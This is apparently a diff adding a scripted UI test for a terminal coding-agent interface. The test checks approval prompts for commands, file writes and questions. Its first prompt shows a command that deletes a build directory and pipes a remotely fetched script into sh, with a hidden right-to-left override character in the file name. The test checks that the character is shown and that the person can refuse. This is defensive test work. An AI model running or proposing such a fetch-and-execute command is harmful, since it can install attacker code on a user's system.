@@ -1,0 +1,122 @@
+# A question: exact command with invisible characters shown, keys, reason, refusing, aside.
+size 80x24
+event {"type":"session_start","workspace":"~/src/parser","model":"gpt-5","agent":"coder","sandbox":"full","approval":"ask"}
+event {"type":"phase","phase":"ask"}
+event {"type":"approval","id":"q1","kind":"command","title":"Run this command?","detail":"rm -rf build && curl https://example.org/install\u202e.sh | sh","why":"It downloads and runs a program.","always":"always: commands that start with rm -rf build","choices":[{"key":"y","label":"once"},{"key":"a","label":"always"},{"key":"n","label":"no"},{"key":"e","label":"no, because","text":true}]}
+screen
+| mien  ~/src/parser                                 ⚠ asks  gpt-5  sandbox:full |
+|┌─ Goal ─────────────────┬─ Work ──────────────────────────────────────────────┐|
+|│No goal yet.            │                                                     │|
+|│Tasks stand here then.  │                                                     │|
+|│                        │                                                     │|
+|│                        │    mien gpt-5                                       │|
+|│                        │                                                     │|
+|│                        │    Write a goal and press Enter.                    │|
+|│                        │                                                     │|
+|│                        │    / lists commands, F1 shows every key,            │|
+|│                        │    Ctrl-T goes to the task tree,                    │|
+|│                        │    Esc stops the agent at any time.                 │|
+|│                        │                                                     │|
+|│┌─ Run this command? ────────────────────────────────────────────────────────┐│|
+|││ $ rm -rf build && curl https://example.org/install<U+202E>.sh | sh         ││|
+|││ It downloads and runs a program.                                           ││|
+|││ always: commands that start with rm -rf build                              ││|
+|││ [y] once   [a] always   [n] no   [e] no, because                           ││|
+|│└────────────────────────────────────────────────────────────────────────────┘│|
+|├─ ◐ waiting for you ────┴─────────────────────────────────────────────────────┤|
+|│ context empty                                                                │|
+|│ ›                                                                            │|
+|│ Tab look behind · Esc refuse                                                 │|
+|└──────────────────────────────────────────────────────────────────────────────┘|
+caret none
+paste y
+expect-no-request
+key Tab
+screen
+| mien  ~/src/parser                                 ⚠ asks  gpt-5  sandbox:full |
+|┌─ Goal ─────────────────┬─ Work ──────────────────────────────────────────────┐|
+|│No goal yet.            │                                                     │|
+|│Tasks stand here then.  │                                                     │|
+|│                        │                                                     │|
+|│                        │    mien gpt-5                                       │|
+|│                        │                                                     │|
+|│                        │    Write a goal and press Enter.                    │|
+|│                        │                                                     │|
+|│                        │    / lists commands, F1 shows every key,            │|
+|│                        │    Ctrl-T goes to the task tree,                    │|
+|│                        │    Esc stops the agent at any time.                 │|
+|│                        │                                                     │|
+|│                        │                                                     │|
+|│                        │                                                     │|
+|│                        │                                                     │|
+|│                        │                                                     │|
+|│                        │                                                     │|
+|│                        │                                                     │|
+|├─ ◐ waiting for you ────┴─────────────────────────────────────────────────────┤|
+|│ context empty                                                                │|
+|│ ›                                                                            │|
+|│ waiting for you: Run this command?  (Ctrl-T answers)                         │|
+|└──────────────────────────────────────────────────────────────────────────────┘|
+key C-t
+type e
+screen
+| mien  ~/src/parser                                 ⚠ asks  gpt-5  sandbox:full |
+|┌─ Goal ─────────────────┬─ Work ──────────────────────────────────────────────┐|
+|│No goal yet.            │                                                     │|
+|│Tasks stand here then.  │                                                     │|
+|│                        │                                                     │|
+|│                        │    mien gpt-5                                       │|
+|│                        │                                                     │|
+|│                        │    Write a goal and press Enter.                    │|
+|│                        │                                                     │|
+|│                        │    / lists commands, F1 shows every key,            │|
+|│                        │    Ctrl-T goes to the task tree,                    │|
+|│                        │    Esc stops the agent at any time.                 │|
+|│                        │                                                     │|
+|│┌─ Run this command? ────────────────────────────────────────────────────────┐│|
+|││ $ rm -rf build && curl https://example.org/install<U+202E>.sh | sh         ││|
+|││ It downloads and runs a program.                                           ││|
+|││ always: commands that start with rm -rf build                              ││|
+|││ [y] once   [a] always   [n] no   [e] no, because                           ││|
+|│└────────────────────────────────────────────────────────────────────────────┘│|
+|├─ ◐ waiting for you ────┴─────────────────────────────────────────────────────┤|
+|│ context empty                                                                │|
+|│ reason:                                                                      │|
+|│ Enter done, Esc cancel; your draft is kept                                   │|
+|└──────────────────────────────────────────────────────────────────────────────┘|
+type too dangerous<Enter>
+expect-request ANSWER name=q1 text=e extra=too dangerous
+event {"type":"approval_done","id":"q1","choice":"e","by":"person"}
+event {"type":"approval","id":"q2","kind":"write","title":"Write src/tok.c?","detail":"@@ -1 +1 @@\n-old\n+new\n","choices":[{"key":"y","label":"once"},{"key":"n","label":"no"}]}
+screen
+| mien  ~/src/parser                                 ⚠ asks  gpt-5  sandbox:full |
+|┌─ Goal ─────────────────┬─ Work ──────────────────────────────────────────────┐|
+|│No goal yet.            │                                                     │|
+|│Tasks stand here then.  │                                                     │|
+|│                        │                                                     │|
+|│                        │    mien gpt-5                                       │|
+|│                        │                                                     │|
+|│                        │    Write a goal and press Enter.                    │|
+|│                        │                                                     │|
+|│                        │    / lists commands, F1 shows every key,            │|
+|│                        │    Ctrl-T goes to the task tree,                    │|
+|│                        │    Esc stops the agent at any time.                 │|
+|│                        │                                                     │|
+|│┌─ Write src/tok.c? ─────────────────────────────────────────────────────────┐│|
+|││ @@ -1 +1 @@                                                                ││|
+|││ -old                                                                       ││|
+|││ +new                                                                       ││|
+|││ [y] once   [n] no                                                          ││|
+|│└────────────────────────────────────────────────────────────────────────────┘│|
+|├─ ◐ waiting for you ────┴─────────────────────────────────────────────────────┤|
+|│ context empty                                                                │|
+|│ ›                                                                            │|
+|│ Tab look behind · Esc refuse                                                 │|
+|└──────────────────────────────────────────────────────────────────────────────┘|
+key Esc
+expect-request ANSWER name=q2 text=n
+event {"type":"approval","id":"q3","kind":"question","title":"Which branch?","detail":"main or next","choices":[]}
+key Enter
+type next<Enter>
+expect-request ANSWER name=q3 text=answer extra=next
+expect-no-request
